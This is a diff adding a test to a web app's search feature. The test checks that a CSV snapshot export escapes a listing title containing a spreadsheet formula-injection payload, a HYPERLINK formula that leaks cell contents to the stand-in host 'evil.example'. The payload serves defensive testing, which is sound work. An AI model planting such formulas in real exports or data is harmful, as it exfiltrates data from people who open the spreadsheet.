@@ -98,3 +98,17 @@ def test_a_bad_saved_search_is_refused(client, requester, indexed):
 
     assert "Use one of relevance" in response.content.decode()
     assert not SavedSearch.objects.exists()
+
+
+def test_the_snapshot_csv_neutralizes_a_listing_title(client, requester):
+    evil = '=HYPERLINK("https://evil.example/?leak="&A1,"Manhole Guard")'
+    published_listing(title=evil, slug="evil", category=CategoryFactory())
+    get_backend().rebuild()
+    client.force_login(requester)
+    client.post("/search/saved/", {"name": "Manholes", "querystring": "q=manhole"})
+    client.post(f"/search/saved/{SavedSearch.objects.get().pk}/freeze/")
+
+    download = client.get(f"/search/snapshots/{SearchSnapshot.objects.get().pk}.csv")
+
+    rows = list(csv.DictReader(io.StringIO(download.content.decode())))
+    assert [row["title"] for row in rows] == ["'" + evil]
